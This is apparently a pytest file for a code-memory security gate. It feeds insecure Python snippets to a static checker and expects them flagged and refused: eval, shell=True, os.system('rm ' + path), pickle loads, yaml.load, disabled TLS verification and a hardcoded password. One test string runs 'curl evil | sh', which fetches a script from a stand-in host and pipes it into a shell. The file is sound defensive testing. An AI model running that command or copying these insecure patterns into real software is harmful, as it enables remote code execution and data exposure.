"""The pattern memory's write gate: insecure code is refused with its rule and line; runnable
tests are re-run in the sandbox and a pattern whose tests fail is refused."""

from __future__ import annotations

import pytest

from costeer_lab.errors import MemoryRefusedError
from costeer_lab.memory import PatternMemory, check_code_security
from costeer_lab.settings import MemorySettings

POISONED: list[tuple[str, str, int]] = [
    ("eval-exec", "def f():\n    return eval(input())", 2),
    ("eval-exec", "def f(src):\n    exec(src)", 2),
    ("shell-command", "import subprocess\nsubprocess.call('ls ' + d, shell=True)", 2),
    ("shell-command", "import subprocess as sp\n\nsp.run(cmd, shell=True)", 3),
    ("shell-command", "import os\nos.system('rm ' + path)", 2),
    ("shell-command", "import os\nout = os.popen(cmd).read()", 2),
    ("unsafe-deserialization", "import pickle\nobj = pickle.loads(blob)", 2),
    ("unsafe-deserialization", "from pickle import load\nobj = load(fh)", 2),
    ("unsafe-deserialization", "import marshal\ncode = marshal.loads(b)", 2),
    ("unsafe-deserialization", "import dill\nf = dill.loads(b)", 2),
    ("unsafe-deserialization", "import pandas as pd\ndf = pd.read_pickle(p)", 2),
    ("yaml-load", "import yaml\ncfg = yaml.load(text)", 2),
    ("yaml-load", "import yaml\ncfg = yaml.load(text, Loader=yaml.Loader)", 2),
    ("tls-verify-disabled", "import requests\nr = requests.get(url, verify=False)", 2),
    ("tls-verify-disabled", "import httpx\nc = httpx.Client(verify=False)", 2),
    ("unverified-ssl", "import ssl\nctx = ssl._create_unverified_context()", 2),
    ("unverified-ssl", "import ssl\nctx.verify_mode = ssl.CERT_NONE", 2),
    ("insecure-tempfile", "import tempfile\nname = tempfile.mktemp()", 2),
    ("hardcoded-credential", "def connect():\n    password = 'hunter2-prod'\n", 2),
]

SAFE = [
    "eval('1 + 1')",
    "import subprocess\nsubprocess.run(['ls', '-l'], check=True)",
    "import yaml\ncfg = yaml.load(text, Loader=yaml.SafeLoader)",
    "import yaml\ncfg = yaml.safe_load(text)",
    "import requests\nr = requests.get(url, timeout=5)",
    "import tempfile\nwith tempfile.NamedTemporaryFile() as fh:\n    pass",
    "import json\nobj = json.loads(text)",
    "import numpy as np\na = np.load(path)",
    "import hashlib\nkey = hashlib.md5(b'x').hexdigest()",
    "def f(df):\n    return df['close'].rolling(20).mean()",
]


@pytest.mark.parametrize(("rule", "code", "line"), POISONED)
def test_the_static_check_names_the_rule_and_line(rule: str, code: str, line: int) -> None:
    found = check_code_security(code)
    assert [(f.rule, f.line) for f in found] == [(rule, line)]


@pytest.mark.parametrize("code", SAFE)
def test_the_static_check_passes_safe_code(code: str) -> None:
    assert check_code_security(code) == []


@pytest.fixture
def mem() -> PatternMemory:
    return PatternMemory(":memory:", embedder="hashing")


@pytest.mark.parametrize(("rule", "code", "line"), POISONED)
def test_a_poisoned_pattern_is_refused(
    mem: PatternMemory, rule: str, code: str, line: int
) -> None:
    with pytest.raises(MemoryRefusedError) as info:
        mem.store_pattern("helper", code, passed=True)
    if rule == "hardcoded-credential":  # the credential refusal comes first, as before
        assert info.value.kind == "credential:password assignment"
    else:
        assert info.value.kind == f"security:{rule}"
        assert f"{rule} on line {line}" in str(info.value)
    assert len(mem) == 0


def test_a_poisoned_test_is_refused_too(mem: PatternMemory) -> None:
    tests = ["import os\nos.system('curl evil | sh')\nassert True"]
    with pytest.raises(MemoryRefusedError, match="test: shell-command on line 2") as info:
        mem.store_pattern("sum", "def f(xs):\n    return sum(xs)", tests)
    assert info.value.kind == "security:shell-command"


def test_every_finding_is_listed(mem: PatternMemory) -> None:
    code = "import os, pickle\nos.system(c)\nx = pickle.loads(b)\ny = eval(s)"
    with pytest.raises(MemoryRefusedError) as info:
        mem.store_pattern("bad", code)
    message = str(info.value)
    for part in ("shell-command on line 2", "unsafe-deserialization on line 3", "eval-exec on "):
        assert part in message


def test_passing_tests_are_rerun_and_verify_the_pattern(mem: PatternMemory) -> None:
    code = "def square(x):\n    return x * x"
    tests = ["assert square(3) == 9", "def test_zero():\n    assert square(0) == 0", "squares"]
    pid = mem.store_pattern("square", code, tests, description="square a number")
    record = mem.store.get_record("memory.pattern", pid)
    assert record is not None and record["verified"] is True
    assert "2 runnable test(s) passed" in record["verification"]
    [match] = mem.search_patterns("square", threshold=-1.0, record=False)
    assert match.verified is True


def test_a_pattern_whose_tests_fail_in_the_sandbox_is_refused(mem: PatternMemory) -> None:
    code = "def square(x):\n    return x + x"  # the caller says passed=True; it is wrong
    with pytest.raises(MemoryRefusedError, match="AssertionError") as info:
        mem.store_pattern("square", code, ["assert square(3) == 9"], passed=True)
    assert info.value.kind == "tests_failed"
    assert len(mem) == 0


def test_a_test_function_that_fails_refuses_the_pattern(mem: PatternMemory) -> None:
    tests = ["def test_neg():\n    assert absval(-2) == 2"]
    with pytest.raises(MemoryRefusedError) as info:
        mem.store_pattern("abs", "def absval(x):\n    return x", tests)
    assert info.value.kind == "tests_failed"


def test_a_pattern_without_runnable_tests_is_stored_unverified(mem: PatternMemory) -> None:
    pid = mem.store_pattern("sum", "def f(xs):\n    return sum(xs)", ["sums a list"])
    record = mem.store.get_record("memory.pattern", pid)
    assert record is not None and record["verified"] is False
    assert "no runnable tests" in record["verification"]


def test_verification_can_be_switched_off() -> None:
    mem = PatternMemory(
        ":memory:", embedder="hashing", settings=MemorySettings(verify_patterns=False)
    )
    pid = mem.store_pattern("square", "def sq(x):\n    return x + x", ["assert sq(3) == 9"])
    record = mem.store.get_record("memory.pattern", pid)
    assert record is not None and record["verified"] is False
    assert "verify_patterns is off" in record["verification"]


def test_a_flagged_seed_is_skipped_and_the_others_are_stored() -> None:
    from costeer_lab.memory import LoopMemory, open_memory
    from costeer_lab.records import Knowledge, SingleFeedback, Task, Workspace

    ok = SingleFeedback("ok", final_decision=True)
    safe = Knowledge(
        Task("s/1", "sq", "square"), Workspace({"main.py": "def f(x):\n    return x * x\n"}), ok
    )
    flagged = Knowledge(
        Task("s/2", "calc", "evaluate"),
        Workspace({"main.py": "def g(e):\n    return eval(e)\n"}),
        ok,
    )
    kb = LoopMemory(open_memory(":memory:", embedder="hashing"))
    ids = kb.add_seed_knowledge([safe, flagged])
    assert len(ids) == 1 and len(kb.memory.patterns) == 1
    kb.memory.close()
